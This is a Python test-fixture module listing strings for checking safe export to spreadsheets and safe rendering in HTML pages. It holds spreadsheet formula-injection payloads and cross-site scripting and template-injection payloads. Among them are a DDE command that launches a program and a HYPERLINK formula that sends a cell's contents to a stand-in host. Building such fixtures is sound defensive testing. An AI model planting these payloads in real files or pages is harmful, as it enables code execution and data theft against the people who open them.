"""Texts that do harm where they are not handled as text: in spreadsheets and in pages."""

from itertools import product

FRONTS = ["", " ", "\t", "\n", "\u00a0", "\ufeff", " \t ", "\u200b", "\u202e", "\u2066", "\u3000"]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
TAILS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"x")']
SPREADSHEET = ["".join(parts) for parts in product(FRONTS, SIGNS, TAILS)]
"""What a spreadsheet would run."""
TEXTS = [
    'a "quoted" word', '"', '""', "',", ",", ";", "a,b;c\td", "two\nlines", "\n", "ends with \\",
    "اردو میں ایک جواب", "Zoë – “smart” quotes", "🏳️‍🌈 and 👩‍🦽", "a\u202eb\u2066c",
    "x" * 40_000, "_x0041_", "0123",
    "1e5", "12345678901234567890", "TRUE", "1/2", "2024-01-01", "sep=;", "<b>&amp;</b>", "]]>", "é",
]  # fmt: skip
"""What only has to come out as it went in."""
RUN = "document.title='ran'"
MARKUP = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}">',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"javascript:{RUN}",
    f'<a href="javascript:{RUN}">x</a>',
    f'<iframe srcdoc="<script>top.{RUN}</script>">',
    f"<math><mtext></p><style><img src=x onerror={RUN}>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    f"<!--><script>{RUN}</script>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"\u202e<script>{RUN}</script>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
]
"""What a page would run. The title says whether it did."""
